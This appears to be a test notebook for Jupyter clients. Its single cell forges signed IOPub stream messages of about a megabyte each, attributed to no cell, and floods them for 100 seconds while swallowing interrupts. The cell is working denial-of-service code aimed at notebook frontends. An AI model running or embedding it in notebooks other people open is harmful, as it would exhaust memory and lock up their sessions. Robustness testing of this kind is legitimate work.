# %% [markdown]
# # **denial: shows outputs that belong to no cell**
#
# A client passes them over, so they count as no cell's: a megabyte each, without end, by a cell
# that cannot be interrupted.

# %%
import time

kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_thread.socket
content = b'{"x":[' + b"[]," * 300_000 + b"[]]}"
end, sent = time.time() + 100, 0
while time.time() < end:
    try:
        parts = [session.pack(session.msg_header("stream")), b'{"msg_id":"nobody"}', b"{}", content]
        socket.send_multipart([b"stream", b"<IDS|MSG>", session.sign(parts), *parts], copy=False)
        sent += 1
        if sent % 200 == 0:
            time.sleep(1)  # what is not fetched is memory of this process
    except (KeyboardInterrupt, MemoryError):
        pass
